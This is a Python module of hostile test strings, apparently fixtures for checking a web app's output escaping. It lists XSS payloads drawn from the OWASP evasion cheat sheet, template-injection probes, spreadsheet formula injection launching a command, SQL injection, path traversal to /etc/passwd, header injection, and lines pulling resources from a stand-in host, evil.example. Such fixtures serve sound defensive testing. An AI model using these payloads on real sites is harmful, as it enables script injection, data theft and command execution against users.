"""Texts that have broken pages. Each would show itself: by a dialog, an element or a request.

Kinds: those of https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html, templates,
spreadsheets, Unicode.
"""

from __future__ import annotations

SCRIPTS = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(2)</sCrIpT>",
    "</title><script>alert(3)</script>",
    "</textarea><script>alert(4)</script>",
    "</style><script>alert(5)</script>",
    "--><script>alert(6)</script>",
    "]]><script>alert(7)</script>",
    "<script/src=data:,alert(8)></script>",
    "<<script>alert(9)//<</script>",
    "<script>alert(10)</script\x0b>",
    "</script><script>alert(11)</script>",
    "<noscript><p title='</noscript><script>alert(12)</script>'>",
)
ELEMENTS = (
    "<img src=x onerror=alert(20)>",
    "<img/src=x/onerror=alert(21)>",
    "<IMG SRC=x OnErRoR=alert(22)>",
    "<img src=x onerror\x09=alert(23)>",
    "<svg onload=alert(24)>",
    "<svg/onload=alert(25)>",
    "<svg><script>alert(26)</script></svg>",
    "<svg><animate onbegin=alert(27) attributeName=x dur=1s>",
    "<math><mtext><img src=x onerror=alert(28)></mtext></math>",
    "<body onload=alert(29)>",
    "<iframe src=javascript:alert(30)></iframe>",
    "<iframe srcdoc='<script>parent.alert(31)</script>'></iframe>",
    "<object data=javascript:alert(32)></object>",
    "<embed src=javascript:alert(33)>",
    "<details open ontoggle=alert(34)><summary>x</summary></details>",
    "<video src=x onerror=alert(35)></video>",
    "<audio src=x onerror=alert(36)>",
    "<input autofocus onfocus=alert(37)>",
    "<select autofocus onfocus=alert(38)>",
    "<marquee onstart=alert(39)>x</marquee>",
    "<form action=javascript:alert(40)><button>x</button></form>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<template><img src=x onerror=alert(41)></template>",
    "<x onclick=alert(42) tabindex=1 autofocus onfocus=alert(43)>",
    "<a href=javascript:alert(44)>bấm</a>",
    "<a href='jav&#x09;ascript:alert(45)'>bấm</a>",
    "<div hx-get='https://evil.example/' hx-trigger=load>x</div>",
    "<div hx-on::load='alert(46)'>x</div>",
)
ATTRIBUTES = (
    '"><script>alert(50)</script>',
    "'><script>alert(51)</script>",
    '" onmouseover=alert(52) autofocus onfocus=alert(53) x="',
    "' onfocus=alert(54) autofocus x='",
    "` onerror=alert(55) `",
    '" style="background:url(https://evil.example/y)" x="',
    "javascript:alert(56)",
    "JaVaScRiPt:alert(57)",
    "data:text/html,<script>alert(58)</script>",
    "vbscript:alert(59)",
)
MARKDOWN = (
    "[bấm](javascript:alert(60))",
    "[bấm](jAvAsCrIpT&colon;alert(61))",
    '![x](x" onerror="alert(62))',
    "<javascript:alert(63)>",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "`<img src=x onerror=alert(64)>`",
    "[a]: javascript:alert(65)\n\n[a]",
)
TEMPLATES = (
    "{{ 7*7 }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    "${alert(70)}",
    "#{7*7}",
    "%(n)s %s {0}",
)
CELLS = ("=1+1", "+1", "-1", "@SUM(1)", "=cmd|'/C calc'!A0", "\uff1d1+1")
ODD = (
    "\u202eđảo chiều\u202c",
    "e\u0302\u0301 tổ hợp",
    "\u200b\u200d\ufeff",
    "👩‍👩‍👧‍👦🏳️‍🌈",
    "\ud7ff\ue000",
    "Robert'); DROP TABLE item;--",
    "../../etc/passwd",
    "%0d%0aSet-Cookie: x=1",
    "NULL",
    "undefined",
    "true",
    "1e309",
    "&lt;b&gt;",
    "&amp;amp;",
    "Ạ̷͝",
    "田中さん",
)
HOSTILE = (*SCRIPTS, *ELEMENTS, *ATTRIBUTES, *MARKDOWN, *TEMPLATES, *CELLS, *ODD)
